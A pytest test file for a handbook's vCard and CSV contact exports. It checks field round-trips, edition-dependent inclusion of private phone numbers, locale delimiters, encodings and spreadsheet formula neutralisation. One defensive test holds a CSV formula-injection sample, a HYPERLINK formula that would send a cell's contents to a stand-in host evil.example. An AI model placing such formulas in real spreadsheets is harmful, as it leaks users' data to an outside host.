"""contacts.vcf and contacts.csv: read back with a vCard parser and the csv module, private numbers only on request."""

from __future__ import annotations

import csv
import dataclasses
import functools
import io
import tempfile
from pathlib import Path

import pytest
import vobject
from conftest import MINIMAL, SAMPLE, edit, load_on_test_day
from editions import edition_of, prepared
from hypothesis import given, settings
from hypothesis import strategies as st
from printed_sample import built_sample

from macros import contact_exports
from macros.contact_exports import render_contacts_csv, render_vcards
from macros.labels import labels_for
from macros.model import Contact, ContactKind, PhoneKind

LABELS = labels_for("en")
PHONE_TYPE = {PhoneKind.office: "WORK", PhoneKind.mobile: "CELL", PhoneKind.private: "HOME"}


@pytest.fixture(scope="module")
def loaded():
    return load_on_test_day(SAMPLE)


@pytest.fixture(scope="module")
def handbook(loaded):
    """The sample as the staff edition holds it, in English."""
    return prepared(loaded, "staff", "en")[0]


@pytest.fixture(scope="module")
def crisis_team(loaded):
    """The sample as the crisis team's edition holds it (private numbers too), in English."""
    return prepared(loaded, "crisis-team", "en")[0]


def read_vcards(text: str) -> dict[str, vobject.base.Component]:
    """The parsed vCards by UID; fails on anything the parser does not accept."""
    cards = list(vobject.readComponents(text, validate=True))
    assert all(card.name == "VCARD" for card in cards)
    return {card.uid.value: card for card in cards}


def phone_numbers(card) -> set[tuple[str, str]]:
    """(number, main type) of every TEL line of a card."""
    return {(tel.value, next(t for t in tel.params["TYPE"] if t != "VOICE")) for tel in card.contents.get("tel", [])}


def private_numbers(handbook) -> list[str]:
    return [phone.number for contact in handbook.contacts for phone in contact.phones
            if phone.kind is PhoneKind.private]


def test_vcards_round_trip_every_contact_and_number_without_private_ones(handbook, loaded):
    """Each contact comes back from the parser with its name, organisation, e-mail and every non-private number."""
    assert private_numbers(loaded), "the sample must have private numbers for this test to mean anything"
    text = render_vcards(handbook, LABELS)
    cards = read_vcards(text)
    assert len(cards) == len(handbook.contacts)
    for contact in handbook.contacts:
        card = cards[f"{handbook.organisation.id}/{contact.id}"]
        assert card.fn.value == contact.name
        assert card.org.value == [contact.organisation]
        assert phone_numbers(card) == {(phone.number, PHONE_TYPE[phone.kind]) for phone in contact.phones
                                       if phone.kind is not PhoneKind.private}
        assert (card.email.value if contact.email else None) == contact.email
        if contact.note:
            assert contact.note in card.note.value
    for number in private_numbers(loaded):
        assert number not in text


def test_crisis_team_vcards_carry_private_numbers(crisis_team):
    """In the crisis team's edition every private number is there, typed HOME."""
    assert private_numbers(crisis_team)
    cards = read_vcards(render_vcards(crisis_team, LABELS))
    for contact in crisis_team.contacts:
        card = cards[f"{crisis_team.organisation.id}/{contact.id}"]
        assert phone_numbers(card) == {(phone.number, PHONE_TYPE[phone.kind]) for phone in contact.phones}


def test_people_get_given_and_family_name_desks_show_as_companies(handbook):
    """Staff and provider people are sorted by surname on the phone; an authority's desk is a company card:
    its organisation, an empty person name, its own name as the display name."""
    cards = read_vcards(render_vcards(handbook, LABELS))
    person = next(c for c in handbook.contacts if c.kind.value == "staff")
    desk = next(c for c in handbook.contacts if c.kind.value == "authority")
    person_name = cards[f"{handbook.organisation.id}/{person.id}"].n.value
    assert (person_name.given, person_name.family) == tuple(person.name.rsplit(" ", 1))
    desk_card = cards[f"{handbook.organisation.id}/{desk.id}"]
    assert (desk_card.n.value.family, desk_card.n.value.given) == ("", "")
    assert desk_card.fn.value == desk.name and desk_card.org.value == [desk.organisation]
    assert desk_card.x_abshowas.value == "COMPANY"


@pytest.mark.parametrize(("name", "expected"), [
    ("Dr. Anna Berg", ("Dr.", "Anna", "Berg")), ("Prof. Dr. Jan van Dijk", ("Prof. Dr.", "Jan van", "Dijk")),
    ("Dr. Berg", ("", "Dr.", "Berg")), ("Cher", ("", "", "Cher"))])
def test_honorifics_go_into_the_name_prefix(name, expected):
    """'Dr.' and 'Prof.' before a name go into the vCard name's prefix, not into the given name."""
    assert contact_exports.split_name(name) == expected


def test_formula_cells_are_neutralised():
    """OWASP: a cell starting with = + - @, a tab or a carriage return gets a leading ' (shown as text)."""
    for value in ("=HYPERLINK(\"http://evil.example/?leak=\"&A2)", "+49 30 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert contact_exports.spreadsheet_cell(value) == "'" + value
    for value in ("Anna", "", "49", "a=b"):
        assert contact_exports.spreadsheet_cell(value) == value


def test_csv_uses_the_delimiter_and_date_of_the_readers_language(loaded):
    """German and Swedish spreadsheets expect ';' between cells; dates as 23.11.2026 and 2026-11-23."""
    for language, delimiter, verified in (("de", ";", "14.09.2026"), ("sv", ";", "2026-09-14"), ("en", ",", "14/09/2026")):
        staff, edition = prepared(loaded, "staff", language)
        text = render_contacts_csv(staff, edition.labels)
        rows = list(csv.DictReader(io.StringIO(text), delimiter=delimiter))
        katrin = next(row for row in rows if row[edition.labels("print.contacts_csv.id")] == "katrin-vogel")
        assert katrin[edition.labels("print.contacts_csv.verified")] == verified
        assert katrin[edition.labels("print.contacts_csv.kind")] == edition.labels("contacts.kind.staff")


def test_csv_reads_back_one_row_per_contact(handbook, loaded):
    """The csv module reads a header and one row per contact with its numbers by kind; no private column by default."""
    rows = list(csv.DictReader(io.StringIO(render_contacts_csv(handbook, LABELS))))
    assert len(rows) == len(handbook.contacts)
    assert LABELS("print.contacts_csv.private") not in rows[0]
    for contact, row in zip(handbook.contacts, rows):
        assert row[LABELS("print.contacts_csv.id")] == contact.id
        assert row[LABELS("print.contacts_csv.name")] == contact.name
        for kind in (PhoneKind.office, PhoneKind.mobile):
            expected = "; ".join(p.number for p in contact.phones if p.kind is kind)
            # Numbers start with + and are written as text ('+49 …), never run as a formula.
            assert row[LABELS(f"print.contacts_csv.{kind.value}")] == ("'" + expected if expected else "")
        assert row[LABELS("print.contacts_csv.verified")] == f"{contact.verified_on:%d/%m/%Y}"
    text = render_contacts_csv(handbook, LABELS)
    assert not any(number in text for number in private_numbers(loaded))


def test_crisis_team_csv_has_a_private_column(crisis_team):
    """The crisis team's CSV has a private column holding every private number."""
    rows = list(csv.DictReader(io.StringIO(render_contacts_csv(crisis_team, LABELS))))
    column = LABELS("print.contacts_csv.private")
    assert sorted(number.removeprefix("'") for row in rows for number in row[column].split("; ") if number) == \
        sorted(private_numbers(crisis_team))


def test_writer_follows_the_edition(loaded, tmp_path):
    """Staff's files leave private numbers out, the crisis team's hold them; the CSV opens as UTF-8."""
    for edition_id in ("staff", "crisis-team"):
        contact_exports.write(*prepared(loaded, edition_id, "en"), tmp_path / "site", tmp_path / edition_id)
    staff_vcf = (tmp_path / "staff" / "contacts.vcf").read_text(encoding="utf-8")
    crisis_vcf = (tmp_path / "crisis-team" / "contacts.vcf").read_text(encoding="utf-8")
    assert not any(number in staff_vcf for number in private_numbers(loaded))
    assert all(number in crisis_vcf for number in private_numbers(loaded))
    with (tmp_path / "staff" / "contacts.csv").open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file))
    accented = next(contact.name for contact in loaded.contacts if not contact.name.isascii())
    assert any(row[LABELS("print.contacts_csv.name")] == accented for row in rows)


def test_two_numbers_of_one_kind_share_their_cell(data_copy):
    """Two office numbers of one contact stand in the office column, separated by a semicolon."""
    edit(data_copy / "contacts.yml", '"+49 171 7654321"\n      kind: private', '"+49 171 7654321"\n      kind: office')
    handbook, edition = prepared(load_on_test_day(data_copy), "staff", "en")
    table = contact_exports.render_contacts_csv(handbook, edition.labels)
    row = next(row for row in csv.DictReader(io.StringIO(table)) if row["Id"] == "bert-braun")
    # The leading ' keeps a spreadsheet from reading the + as a formula.
    assert row[LABELS("print.contacts_csv.office")] == "'+49 30 90182001; +49 171 7654321"


def test_files_are_utf8_with_crlf_lines_and_a_bom_for_spreadsheets(loaded, tmp_path):
    """The vCards are UTF-8 with CRLF line ends (RFC 2426); the CSV starts with a byte-order mark so that Excel
    reads umlauts; the folder is created with its parents."""
    dist = tmp_path / "out" / "dist"
    contact_exports.write(*prepared(loaded, "staff", "en"), tmp_path / "site", dist)
    vcf, table = (dist / "contacts.vcf").read_bytes(), (dist / "contacts.csv").read_bytes()
    accented = next(contact.name for contact in loaded.contacts if not contact.name.isascii())
    assert vcf.startswith(b"BEGIN:VCARD\r\nVERSION:3.0\r\n") and accented.encode("utf-8") in vcf
    assert table.startswith(b"\xef\xbb\xbfId,Name,Organisation,") and accented.encode("utf-8") in table


def test_build_writes_exports_per_edition(tmp_path_factory, handbook, loaded):
    """`python -m macros build` writes contacts.vcf and .csv for staff (no private number) and the crisis team;
    the public edition gets none."""
    sample = built_sample(tmp_path_factory)
    vcf = (sample.dist_of("staff", "en") / "contacts.vcf").read_text(encoding="utf-8")
    assert len(read_vcards(vcf)) == len(handbook.contacts)
    with (sample.dist_of("staff", "en") / "contacts.csv").open(encoding="utf-8-sig", newline="") as file:
        assert len(list(csv.DictReader(file))) == len(handbook.contacts)
    for number in private_numbers(loaded):
        assert number not in vcf
        assert number in (sample.dist_of("crisis-team", "en") / "contacts.vcf").read_text(encoding="utf-8")
    assert not (sample.dist_of("public", "en") / "contacts.vcf").exists()


# --- Round trip of arbitrary text through the written files (hypothesis) ----------------------------------

# Characters YAML data can carry: anything printable, plus newlines and tabs (no other control characters), and
# no invisible format character (Cf: zero-width, bidi controls), which names refuse.
DATA_CHARACTERS = st.characters(blacklist_categories=("Cc", "Cs", "Cf"), whitelist_characters="\n\t")
# What breaks naive writers: markup and entities, CSV and vCard separators, quotes, escapes, non-ASCII.
TRICKY = st.sampled_from(["&", "&amp;", "<b>", ">", ";", ",", '"', "'", "\n", "\\", "\\n", "\\,", ":", "|", "*",
                          "Mon–Fri", "Özdemir", "Malmö", "ß", "日本", "😀", "=", "\t"])
DATA_TEXT = (st.lists(st.one_of(TRICKY, st.text(DATA_CHARACTERS, max_size=12)), min_size=1, max_size=8)
             .map("".join).filter(str.strip))
EMAIL_LOCAL = st.text("abcXYZ019._%+-", min_size=1, max_size=10)
EMAIL_DOMAIN = st.text("abcxyz019-", min_size=1, max_size=10)
EMAILS = st.builds(lambda local, domain, top: f"{local}@{domain}.{top}", EMAIL_LOCAL, EMAIL_DOMAIN,
                   st.text("abcdefghij", min_size=2, max_size=4))
NUMBERS = {PhoneKind.office: "+49 30 90182001", PhoneKind.mobile: "+49 170 1234567", PhoneKind.private: "+49 171 7654321"}
# Days as written in the data, and as an English reader sees them (Babel's stand-alone abbreviations).
DAYS = {"mon-fri": "Mon–Fri", "sat": "Sat", "mon,wed,fri": "Mon, Wed, Fri", "fri-mon": "Fri–Mon", "sat-sun": "Sat, Sun"}
HOURS = st.one_of(st.just({"kind": "24/7"}),
                  st.builds(lambda days, start, end: {"kind": "business-hours", "days": days, "start": start, "end": end},
                            st.sampled_from(list(DAYS)), st.sampled_from(["00:00", "07:30", "19:30"]),
                            st.sampled_from(["18:00", "23:59", "02:00"])))


@functools.cache
def minimal_handbook():
    """The fixture handbook, loaded once (not a pytest fixture: hypothesis would print it with every example)."""
    return load_on_test_day(MINIMAL)


def plain_availability(data: dict) -> str:
    """The hours as a person writes them: '24/7' or '<days> <start>–<end>' (an end before the start is after midnight)."""
    return LABELS("contacts.always") if data["kind"] == "24/7" else f"{DAYS[data['days']]} {data['start']}–{data['end']}"


def spreadsheet(value: str) -> str:
    """OWASP's rule, as the CSV must follow it: a cell a spreadsheet would run as a formula starts with '."""
    return "'" + value if value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


@settings(max_examples=150, deadline=None)
@given(name=DATA_TEXT, organisation=DATA_TEXT, job_title=st.none() | DATA_TEXT, email=st.none() | EMAILS,
       note=st.none() | DATA_TEXT, hours=HOURS, kinds=st.sets(st.sampled_from([PhoneKind.office, PhoneKind.mobile]),
                                                               min_size=1),
       contact_kind=st.sampled_from(list(ContactKind)))
def test_exports_read_back_arbitrary_text_exactly(name, organisation, job_title, email, note, hours, kinds,
                                                   contact_kind):
    """Whatever text a contact holds, the csv module and a vCard parser read every field back exactly, as written."""
    holder = minimal_handbook().contacts[0]
    contact = Contact.model_validate({
        "id": holder.id, "name": name, "kind": contact_kind.value, "organisation": organisation,
        "job_title": job_title, "email": email, "note": note, "availability": hours, "verified_on": "2026-10-01",
        "phones": [{"number": NUMBERS[kind], "kind": kind.value} for kind in sorted(kinds, key=lambda k: k.value)]})
    handbook = dataclasses.replace(minimal_handbook(), contacts=[contact])
    roles = ", ".join(role.title for role in handbook.roles_held_by(contact.id))
    assert roles, "the contact should hold a role, so the note carries one"
    availability = plain_availability(hours)
    with tempfile.TemporaryDirectory() as folder:
        contact_exports.write(handbook, edition_of(handbook, language="en"), Path(folder) / "site", Path(folder))
        with (Path(folder) / "contacts.csv").open(encoding="utf-8-sig", newline="") as file:
            (row,) = list(csv.DictReader(file))
        vcf = (Path(folder) / "contacts.vcf").read_text(encoding="utf-8")

    column = {key: LABELS(f"print.contacts_csv.{key}") for key in contact_exports.CSV_COLUMNS}
    assert row[column["name"]] == spreadsheet(contact.name)
    assert row[column["organisation"]] == spreadsheet(contact.organisation)
    assert row[column["job_title"]] == spreadsheet(contact.job_title or "")
    assert row[column["email"]] == spreadsheet(contact.email or "")
    assert row[column["note"]] == spreadsheet(contact.note or "")
    assert row[column["roles"]] == roles.replace(", ", "; ")
    assert row[column["availability"]] == availability
    assert row[column["verified"]] == "01/10/2026"
    for kind in (PhoneKind.office, PhoneKind.mobile):
        assert row[column[kind.value]] == ("'" + NUMBERS[kind] if kind in kinds else "")

    (card,) = read_vcards(vcf).values()
    assert card.fn.value == contact.name
    parts = card.n.value
    if contact.is_person:
        assert " ".join(part for part in (parts.prefix, parts.given, parts.family) if part) == " ".join(contact.name.split())
    else:
        assert (parts.given, parts.family) == ("", "")
    assert card.org.value == [contact.organisation]
    assert (card.title.value if "title" in card.contents else None) == contact.job_title
    assert (card.email.value if "email" in card.contents else None) == contact.email
    assert phone_numbers(card) == {(NUMBERS[kind], PHONE_TYPE[kind]) for kind in kinds}
    expected_note = [LABELS("print.vcard.roles", roles=roles), LABELS("print.vcard.availability", availability=availability)]
    expected_note += [contact.note] if contact.note else []
    expected_note += [LABELS("print.vcard.verified", date="01/10/2026")]
    assert card.note.value == "\n".join(expected_note)


def test_text_with_markup_characters_is_exported_as_written(data_copy):
    """A note such as 'Mon & Sat <late>' reaches the CSV and the vCard note as written, not as '&amp;' or '\\<';
    hours read as the English reader writes them."""
    edit(data_copy / "contacts.yml", "  verified_on: 2026-09-15", "  verified_on: 2026-09-15\n  note: \"Mon & Sat <late> *x*\"")
    handbook = load_on_test_day(data_copy)
    rows = list(csv.DictReader(io.StringIO(render_contacts_csv(handbook, LABELS), newline="")))
    bert = next(row for row in rows if row[LABELS("print.contacts_csv.id")] == "bert-braun")
    assert bert[LABELS("print.contacts_csv.note")] == "Mon & Sat <late> *x*"
    assert bert[LABELS("print.contacts_csv.availability")] == "Mon–Fri 08:00–18:00"
    notes = [card.note.value for card in read_vcards(render_vcards(handbook, LABELS)).values()]
    assert sum("Mon & Sat <late> *x*" in note and "Available: Mon–Fri 08:00–18:00" in note for note in notes) == 1
